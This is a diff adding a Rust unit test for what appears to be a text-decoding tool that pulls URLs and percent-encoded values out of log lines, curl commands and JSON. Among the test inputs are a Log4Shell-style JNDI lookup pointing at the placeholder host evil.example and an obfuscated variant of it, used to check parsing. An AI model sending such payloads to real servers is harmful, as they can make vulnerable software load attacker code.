@@ -66,3 +66,54 @@ fn formats_are_plain_text_first() {
         assert_eq!(explain(text).root().kind, Kind::Encoded, "{text}");
     }
 }
+
+#[cfg(feature = "all-notations")]
+#[test]
+fn what_is_encoded_beside_an_address() {
+    for (text, expected) in [
+        (
+            "GET /s%C3%B6k/default.aspx q=%C3%A5r&p=%u4F60 443 - Mozilla/5.0+(NT) https://ref.example/ 200",
+            &["/s%C3%B6k/default.aspx", "q=%C3%A5r&p=%u4F60", "https://ref.example/"][..],
+        ),
+        (
+            "GET\td1.cloudfront.net\t/s%25C3%25B6k\t200\thttps://r.example/\tMozilla/5.0%2520(NT)\tq=caf%25C3%25A9\t-",
+            &["/s%25C3%25B6k", "https://r.example/", "Mozilla/5.0%2520(NT)", "q=caf%25C3%25A9"],
+        ),
+        (
+            "curl 'https://a.example/' -H 'cookie: sid=a%3Ab; lang=de' --data-raw 'n=J%C3%BC+M&m=a%26b'",
+            &["https://a.example/", "sid=a%3Ab", "n=J%C3%BC+M&m=a%26b"],
+        ),
+        ("a%20b\nhttps://a.example/", &["a%20b", "https://a.example/"]),
+        (
+            "{\"url\": \"https://a.example/\", \"value\": \"%E4%BD%A0\"}",
+            &["https://a.example/", "%E4%BD%A0"],
+        ),
+        // Nothing else is.
+        (
+            "see https://a.example/ is 50% of 20%20 or 100%de and %5d %s %CD%",
+            &["https://a.example/", "20%20"],
+        ),
+        ("echo %DATE% %~dp0%1 https://a.example/ LIKE '%abc%'", &["https://a.example/"]),
+        ("GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1", &["/?x=${jndi:ldap://evil.example/a}"]),
+    ] {
+        let explanation = explain(text);
+        assert_eq!(explanation.root().kind, Kind::Text, "{text}");
+        let found: Vec<_> =
+            explanation.root().children.iter().map(|child| &*child.written).collect();
+        assert_eq!(found, expected, "{text}");
+        let readable = explanation.readable().unwrap();
+        for child in explanation.root().children.iter().filter(|child| child.kind != Kind::Url) {
+            if matches!(child.kind, Kind::Form | Kind::Encoded) {
+                assert!(readable.contains(&child.written), "{readable}");
+            }
+        }
+    }
+    for text in
+        ["/?x=${jndi:ldap://evil.example/a}", "/?x=$%7B$%7Blower:j%7Dndi:ldap://evil.example/a%7D"]
+    {
+        let explanation = explain(text);
+        assert_eq!(explanation.root().kind, Kind::Reference, "{text}");
+        let value = explanation.root().value("x").expect(text);
+        assert!(value.read().starts_with("${") && value.read().ends_with('}'), "{text}");
+    }
+}
